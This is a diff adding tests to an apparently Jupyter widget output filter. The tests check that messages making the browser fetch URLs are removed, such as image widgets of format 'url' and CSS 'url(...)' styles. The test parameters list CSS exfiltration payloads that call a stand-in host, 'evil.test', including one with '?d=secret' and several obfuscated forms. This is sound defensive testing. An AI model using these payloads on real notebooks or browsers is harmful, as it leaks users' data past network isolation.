@@ -163,6 +163,47 @@ def test_help_links_and_comms_and_widget_html():
     assert no_frontend.filter("comm_open", widget) is None
 
 
+def _widget(policy, comm_id, state, method="comm_open"):
+    if method == "comm_open":
+        content = {"comm_id": comm_id, "target_name": "jupyter.widget", "data": {"state": state}}
+    else:
+        content = {"comm_id": comm_id, "data": {"method": "update", "state": state}}
+    return policy.filter(method, content)
+
+
+@pytest.mark.parametrize("model", ["ImageModel", "VideoModel", "AudioModel"])
+def test_a_widget_cannot_make_the_browser_fetch_a_url(model):
+    """Issue 30: an Image widget of format "url" has the browser load its value as a URL,
+    and a layout or style value can be ``url(...)``: a kernel with no network could send
+    data out through the user's browser. Control: a PNG image and plain styles pass."""
+    policy = OutputPolicy(targets=frozenset({"jupyter.widget"}))
+    png = _widget(policy, "img", {"_model_name": model, "format": "png", "width": "10"})
+    assert png["data"]["state"]["format"] == "png", "the probe: an ordinary image passes"
+    assert _widget(policy, "img", {"format": "URL "}, "comm_msg") is None
+    assert _widget(policy, "new", {"_model_name": model, "format": "url"}) is None
+    assert _widget(policy, "png", {"_model_name": "ImageModel", "format": "png"}) is not None
+
+
+@pytest.mark.parametrize("value", [
+    "url(https://evil.test/?d=secret)", "no-repeat URL('//evil.test/x')",
+    "image-set('https://evil.test/a.png' 1x)", "u\\72l(https://evil.test/)",
+    "-webkit-image-set(url(x) 1x)", "cross-fade(url(a), url(b), 50%)", "src(x)",
+    "url /**/(x)",
+])  # fmt: skip
+def test_layout_and_style_values_that_load_a_url_are_removed(value):
+    policy = OutputPolicy(targets=frozenset({"jupyter.widget"}))
+    safe = {"width": "calc(100% - 2px)", "border": "1px solid rgb(1, 2, 3)", "margin": "0"}
+    opened = _widget(policy, "lay", {"_model_name": "LayoutModel", **safe, "background": value})
+    assert opened["data"]["state"] == {"_model_name": "LayoutModel", **safe}
+    style = _widget(policy, "sty", {"_model_name": "HTMLStyleModel", "background": "red"})
+    assert style["data"]["state"]["background"] == "red", "the probe: a color passes"
+    update = _widget(policy, "sty", {"background": value, "font_size": "12px"}, "comm_msg")
+    assert update["data"]["state"] == {"font_size": "12px"}
+    # text in any other model is text: it may say url(...)
+    text = _widget(policy, "txt", {"_model_name": "TextModel", "value": value})
+    assert text["data"]["state"]["value"] == value
+
+
 # ---------------------------------------------------------------- through the relay
 class RelayedKernel:
     """A local ipykernel behind our relay (the kernel's ports stand in for the guest's)."""
